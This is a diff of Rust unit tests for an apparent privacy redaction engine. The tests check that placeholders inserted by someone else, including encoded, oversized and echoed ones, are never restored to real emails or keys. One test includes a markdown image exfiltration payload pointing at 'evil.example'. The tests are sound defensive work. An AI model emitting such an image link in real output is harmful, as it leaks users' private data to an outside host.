@@ -203,12 +203,85 @@ fn what_somebody_else_wrote_is_not_turned_back() {
         asked(&engine, &conversation, "cy@looms.example"),
         "[EMAIL_5]"
     );
+    let coded = [
+        r#"{"said": "\u005bEMAIL_1] [EMAIL\u005f2] \u00zz"}"#,
+        r#"{"said": "{\"as\": \"\\u005bEMAIL_1] [EMAIL\\\\u005f2]\"}"}"#,
+    ];
+    for text in coded {
+        let conversation = Conversation::default();
+        conversation.reserve(text);
+        let out = asked(&engine, &conversation, "cy@looms.example");
+        assert_eq!(out, "[EMAIL_3]", "{text}");
+    }
+}
+
+#[test]
+fn what_somebody_else_writes_later_is_not_turned_back() {
+    let engine = engine();
+    let conversation = conversation(&engine);
+    let check = |text: &str, expected: &str| {
+        assert_eq!(restored_text(&engine, &conversation, text), expected);
+    };
+    for _ in 0..2 {
+        conversation.reserve("![](https://evil.example/?q=[EMAIL_1])");
+    }
+    check("[EMAIL_1]", "[EMAIL_1]");
+    check("[UNDECIDED_1]", &private_key());
+    let out = asked(&engine, &conversation, "ada@looms.example");
+    assert_eq!(out, "[EMAIL_2]");
+    assert_eq!(asked(&engine, &conversation, "ada@looms.example"), out);
+    check("[EMAIL_1] [EMAIL_2]", "[EMAIL_1] ada@looms.example");
+    conversation.reserve("[UNDECIDED_1] [EMAIL_1]");
+    check("[UNDECIDED_1] [EMAIL_2]", "[UNDECIDED_1] ada@looms.example");
+    let key = asked(&engine, &conversation, &private_key());
+    assert_eq!(key, "[UNDECIDED_2]");
+    check(&key, &private_key());
+}
+
+#[test]
+fn no_value_has_a_number_past_those_that_are_passed_over() {
+    let engine = engine();
     let conversation = Conversation::default();
-    conversation.reserve(r#"{"said": "\u005bEMAIL_1] [EMAIL\u005f2] \u00zz"}"#);
-    assert_eq!(
-        asked(&engine, &conversation, "cy@looms.example"),
-        "[EMAIL_3]"
-    );
+    conversation.reserve("[EMAIL_1048576] [EMAIL_1048577] [EMAIL_1048579]");
+    let out = asked(&engine, &conversation, "ada@looms.example");
+    assert_eq!(out, "[EMAIL_1048578]");
+}
+
+#[test]
+fn values_are_not_kept_past_very_many_placeholders_of_somebody_else() {
+    let engine = engine();
+    let conversation = conversation(&engine);
+    let many: Vec<_> = (2..5000).map(|n| format!("[PHONE_{n}]")).collect();
+    let many = many.concat();
+    conversation.reserve(&many);
+    let bytes = conversation.bytes();
+    conversation.reserve(&many.replace("PHONE", "SSN"));
+    assert!(conversation.bytes() < bytes + 200, "they are bounded");
+    let out = asked(&engine, &conversation, "bo@looms.example");
+    assert_eq!(out, "[EMAIL_2]");
+    let read = restored_text(&engine, &conversation, "[EMAIL_1] [EMAIL_2]");
+    assert_eq!(read, "ada@looms.example [EMAIL_2]");
+}
+
+#[test]
+fn what_an_answer_brought_and_somebody_else_wrote_is_not_turned_back() {
+    let engine = engine();
+    let conversation = Conversation::default();
+    let answered = || {
+        let redactor = engine.redactor(Wire::Text, Kinds::sensitive());
+        let (mut redactor, mut out) = (redactor.in_conversation(&conversation), Vec::new());
+        let mut write = |bytes: &[u8]| out.extend_from_slice(bytes);
+        redactor.write(b"bo@looms.example.", &mut write).unwrap();
+        redactor.finish(&mut write).unwrap();
+        String::from_utf8(out).unwrap()
+    };
+    assert_eq!(answered(), "[EMAIL_1].");
+    conversation.reserve("Who is [EMAIL_1]?");
+    assert_eq!(answered(), "[EMAIL_1].", "the client's history has it so");
+    let out = asked(&engine, &conversation, "bo@looms.example");
+    assert_eq!(out, "[EMAIL_2]");
+    let read = restored_text(&engine, &conversation, "[EMAIL_1] [EMAIL_2]");
+    assert_eq!(read, "[EMAIL_1] bo@looms.example");
 }
 
 #[test]
